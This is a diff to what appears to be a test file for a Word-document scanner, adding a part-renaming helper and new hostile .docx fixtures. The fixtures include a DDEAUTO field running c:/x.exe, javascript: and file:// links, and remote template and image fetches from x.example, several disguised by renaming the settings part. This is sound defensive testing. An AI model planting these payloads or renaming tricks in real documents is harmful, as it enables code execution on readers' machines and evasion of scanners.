@@ -8,7 +8,7 @@ from docx import Document
 
 Change = Callable[[dict[str, str]], None]
 _RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-_RELS = "word/_rels/document.xml.rels"
+_TYPES = "[Content_Types].xml"
 _W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
@@ -67,11 +67,31 @@ def _text(code: str) -> str:
     return f"<w:r><w:instrText>{code}</w:instrText></w:r>"
 
 
+def renamed(old: str, new: str, kind: str) -> Change:
+    """Return a change that gives a part another name, by which its content type and relations know it too."""
+
+    def change(parts: dict[str, str]) -> None:
+        parts[new] = parts.pop(old)
+        for name, part in parts.items():
+            if name.lower().endswith(".rels") or name == _TYPES:
+                parts[name] = part.replace(old.rpartition("/")[2], new.rpartition("/")[2])
+        if f'PartName="/{new}"' not in parts[_TYPES]:
+            override = f'<Override PartName="/{new}" ContentType="{kind}"/>'
+            parts[_TYPES] = parts[_TYPES].replace("</Types>", f"{override}</Types>")
+
+    return change
+
+
 _MADE_INSIDE = (
     f"<w:p>{_char('begin')}{_char('begin')}{_text('IF 1 = 1 DDEAUTO')}{_char('end')}{_text(' c:/x.exe')}"
     f"{_char('end')}</w:p>"
 )
 _VML = '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml">{}</v:rect></w:pict></w:r></w:p>'
+
+_LETTERS = within("<w:mailMerge/>", "word/settings.xml", "<w:defaultTabStop")
+_OPEN = "application/vnd.openxmlformats"
+_SETTINGS = f"{_OPEN}-officedocument.wordprocessingml.settings+xml"
+_RELATIONS_TYPE = f"{_OPEN}-package.relationships+xml"
 
 HOSTILE: Mapping[str, tuple[bytes, str]] = {
     "picture": (word(relation("image", "http://x.example/p.png")), "document.xml.rels leads outside (image)"),
@@ -100,10 +120,7 @@ HOSTILE: Mapping[str, tuple[bytes, str]] = {
         word(relation("mailMergeSource", "file:///c:/x.xlsx", part="word/settings.xml")),
         "(mailMergeSource)",
     ),
-    "letters": (
-        word(within("<w:mailMerge/>", "word/settings.xml", "<w:defaultTabStop")),
-        "settings.xml fetches letters",
-    ),
+    "letters": (word(_LETTERS), "settings.xml fetches letters"),
     "workbook that is none": (word(relation("package", "embeddings/x.xlsm", mode="")), "(package)"),
     "link that runs": (word(relation("hyperlink", "javascript:alert(1)")), "leads outside (hyperlink)"),
     "link to a file": (word(relation("hyperlink", "file://x.example/share/x.exe")), "leads outside (hyperlink)"),
@@ -131,6 +148,26 @@ HOSTILE: Mapping[str, tuple[bytes, str]] = {
         word(within(_VML.format('<v:fill src="//x.example/p" xmlns:o="urn:schemas-microsoft-com:office:office"/>'))),
         "leads outside",
     ),
+    "letters in a part that is not named as XML": (
+        word(_LETTERS, renamed("word/settings.xml", "word/settings.dat", _SETTINGS)),
+        "document.xml.rels leads to a part whose name does not end in .xml (settings): settings.dat",
+    ),
+    "letters in a part that is named as a picture": (
+        word(_LETTERS, renamed("word/settings.xml", "word/settings.jpeg", _SETTINGS)),
+        "does not end in .xml (settings): settings.jpeg",
+    ),
+    "letters in a part that is named in capitals": (
+        word(_LETTERS, renamed("word/settings.xml", "word/settings.XML", _SETTINGS)),
+        "settings.XML fetches letters",
+    ),
+    "template of a part that is named in capitals": (
+        word(
+            relation("attachedTemplate", "http://x.example/t.dotm", part="word/settings.xml"),
+            renamed("word/_rels/settings.xml.rels", "word/_rels/settings.xml.Rels", _RELATIONS_TYPE),
+        ),
+        "settings.xml.Rels holds what a report may not (attachedTemplate)",
+    ),
+    "name that only begins as XML": (word(relation("header", "h.dat?.xml", mode="")), "(header): h.dat?.xml"),
     "broken part": (word(within("<w:p", before="</w:body>")), "document.xml is damaged"),
 }
 """Each with the beginning of what is said of it."""
